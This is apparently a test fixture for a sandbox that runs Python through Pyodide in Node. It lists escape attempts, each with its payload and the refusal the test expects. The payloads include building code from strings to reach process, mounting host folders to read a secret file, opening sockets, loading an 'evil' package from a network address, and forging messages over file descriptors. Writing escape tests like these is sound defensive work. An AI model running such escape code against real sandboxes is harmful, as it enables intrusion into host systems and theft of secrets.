import { type Attempt, crashed, inside, refusedByCode } from "./attempt.fixture.ts";

/** Against the wall around JavaScript, whose objects the garbage collector hands out, and around the channel to the parent. */
export const javascript: readonly Attempt[] = [
  {
    what: "the Pyodide API by the garbage collector",
    happened: "it is there",
    code: `${inside}\n"runPython" in dir(api)`,
    result: /^True$/m,
  },
  {
    what: "`process`, `fetch`, `require` of the global object",
    happened: "they are gone",
    code: `${inside}\n[n for n in ("process", "fetch", "require") if hasattr(js, n)]`,
    result: /^\[\]$/m,
  },
  {
    what: "JavaScript from a string",
    happened: refusedByCode,
    code: `${inside}\nFunction("return process")()`,
    result: /Code generation from strings disallowed/,
  },
  {
    what: "asynchronous JavaScript from a string",
    happened: refusedByCode,
    code: `${inside}\napi.runPythonAsync.constructor("return 1")()`,
    result: /Code generation from strings disallowed/,
  },
  {
    what: "Pyodide imported again",
    happened: refusedByCode,
    code: `${inside}\nimport sys\nsys.meta_path.pop(0)\nimport _pyodide_core\n_pyodide_core.to_js([]).constructor.constructor("return process")()`,
    result: /Code generation from strings disallowed/,
  },
  {
    what: "the host's folders by NODEFS",
    happened: "Node's permissions refuse",
    code:
      `${inside}\noptions = Object()\noptions.root = "FOLDER"\napi.FS.mkdir("/host")\n` +
      `api.FS.mount(api.FS.filesystems.NODEFS, options, "/host")\nimport os\nprint(os.listdir("/host"))\nopen("/host/secret.txt").read()`,
    result: /Error|crashed/,
  },
  {
    what: "the host's folders by `mountNodeFS`",
    happened: "Node's permissions refuse",
    code: `${inside}\napi.mountNodeFS("/host2", "FOLDER")\nimport os\nprint(os.listdir("/host2"))`,
    result: /Error|crashed/,
  },
  {
    what: "writing by `mountNodeFS`",
    happened: "Node's permissions refuse",
    code: `${inside}\napi.mountNodeFS("/host3", "FOLDER")\nopen("/host3/written.txt", "w").write("x")`,
    result: /Error|crashed/,
  },
  {
    what: "sockets of Node",
    happened: "they refuse",
    code: `${inside}\napi.useNodeSockFS()\nimport socket\nsocket.create_connection(("127.0.0.1", PORT), timeout=2).send(b"GET /sock HTTP/1.0\\r\\n\\r\\n")`,
    result: /Error|crashed/,
  },
  {
    what: "`loadPackage` from the network",
    happened: "nothing is sent",
    code: `${inside}\napi.loadPackage("http://ADDRESS/evil-1.0-py3-none-any.whl")`,
    result: /^/,
  },
  {
    what: "a library of the host by `loadDynlib`",
    happened: "it is not read",
    code: `${inside}\napi._api.loadDynlib("SECRET")`,
    result: /^/,
  },
  {
    what: "a file of the host by `loadBinaryFile`",
    happened: "it is not read",
    code: `${inside}\nstr(api._api.loadBinaryFile("SECRET"))`,
    result: /^/,
  },
  {
    what: "a file of the host by the module's reader",
    happened: "it is not read",
    code: `${inside}\nstr(api._module.readAsync("SECRET"))`,
    result: /^/,
  },
  {
    what: "`unpackArchive` over the host",
    happened: "nothing is written",
    code: `${inside}\napi.unpackArchive(b"", "zip")`,
    result: /^/,
  },
  {
    what: "the channel to the parent",
    happened: "it is not there",
    code: `${inside}\napi._module.process`,
    result: /AttributeError/,
  },
  {
    what: "the runtime's bridge to the host's files, `NODEFS`",
    happened: "it is not there",
    code: `${inside}\napi.FS.filesystems.NODEFS`,
    result: /AttributeError: NODEFS/,
  },
  {
    what: "the runtime's bridge to the host's sockets, `useNodeSockFS`",
    happened: "it is not there",
    code: `${inside}\napi._api.useNodeSockFS`,
    result: /AttributeError: useNodeSockFS/,
  },
  {
    what: "a forged answer, written to every file descriptor",
    happened: "Python has only its own three",
    code: `import os, json, struct
answer = {"id": 0, "kind": "", "text": "", "output": "forged", "droppedBytes": 0, "restored": True, "memoryBytes": 0}
body = json.dumps(answer).encode()
wrote = []
for fd in range(3, 64):
    try:
        os.write(fd, struct.pack(">I", len(body)) + body)
        wrote.append(fd)
    except OSError:
        pass
print(wrote)`,
    result: /^\[\]\n$/,
  },
  {
    what: "JavaScript's own functions replaced",
    happened: "they are read-only",
    code: `${inside}\nObject.getPrototypeOf(api.FS.streams).push = print`,
    result: /Cannot assign to read only property 'push'/,
  },
  { what: "Pyodide's own `_exit`", happened: crashed, code: `${inside}\napi._module._exit(0)`, result: /crashed|Error/ },
];
